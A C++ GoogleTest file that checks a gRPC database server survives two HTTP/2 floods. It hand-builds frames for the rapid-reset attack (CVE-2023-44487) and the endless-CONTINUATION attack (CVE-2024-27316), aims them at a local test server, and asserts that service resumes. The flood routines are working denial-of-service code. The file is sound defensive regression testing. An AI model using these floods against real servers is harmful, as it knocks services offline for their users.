// Floods of HTTP/2 that no client library makes: calls that are reset at once (CVE-2023-44487), and
// headers without end (CVE-2024-27316).
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <poll.h>
#include <sys/socket.h>

#include <array>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <string>
#include <string_view>
#include <thread>

#include "program/connections/file_descriptor.h"
#include "tests/faults/fault_fixture.h"
#include "tests/program/loopback_connection.h"

namespace graspdb::faults {
namespace {

using namespace std::string_literals;

constexpr char kPreface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

// RFC 9113, section 6.
enum FrameType : std::uint8_t {
  kData = 0,
  kHeaders = 1,
  kReset = 3,
  kSettings = 4,
  kContinuation = 9
};
constexpr std::uint8_t kEndStream = 1;
constexpr std::uint8_t kEndHeaders = 4;

std::string BigEndian(std::uint32_t value, int bytes) {
  std::string out;
  for (int i = bytes - 1; i >= 0; --i) out += static_cast<char>(value >> (8 * i) & 0xFFU);
  return out;
}

std::string Frame(FrameType type, std::uint8_t flags, std::uint32_t stream,
                  const std::string& payload = "") {
  return BigEndian(static_cast<std::uint32_t>(payload.size()), 3) + static_cast<char>(type) +
         static_cast<char>(flags) + BigEndian(stream, 4) + payload;
}

// A header with a new name (RFC 7541, section 6.2.2).
std::string Header(const std::string& name, const std::string& value) {
  return "\0"s + static_cast<char>(name.size()) + name + static_cast<char>(value.size()) + value;
}

// Of a call: POST, http, path and authority, whose names are in HPACK's table.
std::string CallHeaders(const std::string& path) {
  return "\x83\x86\x04" + std::string(1, static_cast<char>(path.size())) + path + "\x01\x01x" +
         Header("content-type", "application/grpc") + Header("te", "trailers");
}

class Flood {
 public:
  explicit Flood(const std::string& server)
      : socket_(graspdb::testing::ConnectTo(
            static_cast<std::uint16_t>(std::stoi(server.substr(server.rfind(':') + 1))))) {
    Send(kPreface + Frame(kSettings, 0, 0));
  }

  // False once the server has ended the connection. Reads what the server sends, which would not
  // read on without.
  bool Send(std::string_view bytes) const {
    std::array<char, 4096> received{};
    while (!bytes.empty()) {
      pollfd ready = {socket_.number(), POLLIN | POLLOUT, 0};
      poll(&ready, 1, -1);
      const ssize_t read = recv(socket_.number(), received.data(), received.size(), MSG_DONTWAIT);
      if (read == 0 || (read < 0 && errno != EAGAIN)) return false;
      const ssize_t sent =
          send(socket_.number(), bytes.data(), bytes.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
      if (sent < 0 && errno != EAGAIN) return false;
      if (sent > 0) bytes.remove_prefix(static_cast<std::size_t>(sent));
    }
    return true;
  }
  // Until the server ends the connection.
  void ResetCalls(const std::string& path, const std::string& message) const {
    constexpr int kCallsAtOnce = 100;
    const std::string cancel = BigEndian(8, 4);
    std::uint32_t stream = 1;
    std::string calls;
    do {
      calls.clear();
      for (int i = 0; i < kCallsAtOnce; ++i, stream += 2) {
        calls += Frame(kHeaders, kEndHeaders, stream, CallHeaders(path));
        if (!message.empty()) calls += Frame(kData, kEndStream, stream, message);
        calls += Frame(kReset, 0, stream, cancel);
      }
    } while (Send(calls));
  }
  void ContinueHeaders() const {
    const std::string header = "\0\x01x\x7f\x81\x1f"s + std::string(4096, 'a');  // its value
    const std::string more = Frame(kContinuation, 0, 1, header + header + header);
    bool is_open = Send(Frame(kHeaders, 0, 1, "\x83\x86"));
    while (is_open) is_open = Send(more);
  }

 private:
  const FileDescriptor socket_;
};

class FloodTest : public FaultTest {
 protected:
  void SetUp() override { StartServer("db", {"--memory-mib", "256"}); }
  // A connection from before the flood is served again, once what gRPC has queued is done. The
  // flood is ended by the watch, or by gRPC where its own quota is used up first.
  static void AwaitService(client::Client& robot) {
    while (!robot.GetCatalogStatus().ok()) {
      std::this_thread::sleep_for(std::chrono::milliseconds(50));
    }
  }
};

TEST_F(FloodTest, CallsThatAreResetBeforeTheirMessageEndTheConnection) {
  client::Client robot = Connect();
  ASSERT_TRUE(robot.GetCatalogStatus().ok());
  Flood(address_).ResetCalls("/graspdb.v1.CatalogService/GetCatalogStatus", "");
  AwaitService(robot);
}

TEST_F(FloodTest, CallsThatAreResetAfterTheirMessageEndTheConnection) {
  client::Client robot = Connect();
  ASSERT_TRUE(robot.GetCatalogStatus().ok());
  Flood(address_).ResetCalls("/graspdb.v1.CatalogService/GetCatalogStatus", "\0\0\0\0\0"s);
  AwaitService(robot);
}

TEST_F(FloodTest, ResetCallsOfAMethodThatDoesNotExistEndTheConnection) {
  client::Client robot = Connect();
  ASSERT_TRUE(robot.GetCatalogStatus().ok());
  Flood(address_).ResetCalls("/no/such", "");
  AwaitService(robot);
}

TEST_F(FloodTest, HeadersWithoutEndEndTheConnection) {
  client::Client robot = Connect();
  ASSERT_TRUE(robot.GetCatalogStatus().ok());
  Flood(address_).ContinueHeaders();
  AwaitService(robot);
}

}  // namespace
}  // namespace graspdb::faults
